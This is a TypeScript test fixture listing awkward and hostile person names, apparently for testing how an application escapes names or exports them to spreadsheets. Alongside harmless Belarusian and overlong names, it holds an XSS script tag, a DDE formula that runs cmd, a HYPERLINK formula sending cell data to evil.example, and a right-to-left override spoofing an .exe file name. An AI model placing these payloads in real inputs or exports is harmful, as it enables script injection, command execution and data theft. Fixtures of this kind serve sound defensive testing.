/** Names that somebody chose with care, and others that are hard to write. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
  '"=HYPERLINK("http://evil.example/?"&A1)"',
  '+375 29 123;=1+1',
  '@SUM(A1:A9)\t=2',
  'Ҵ\u202Egnp.exe\u202C ועד אבג',
  'Наталлявельмідоўгаепрозвішчабязпрабелаў'.repeat(3),
  'Дзьмітры «Ў» д’Арк',
];
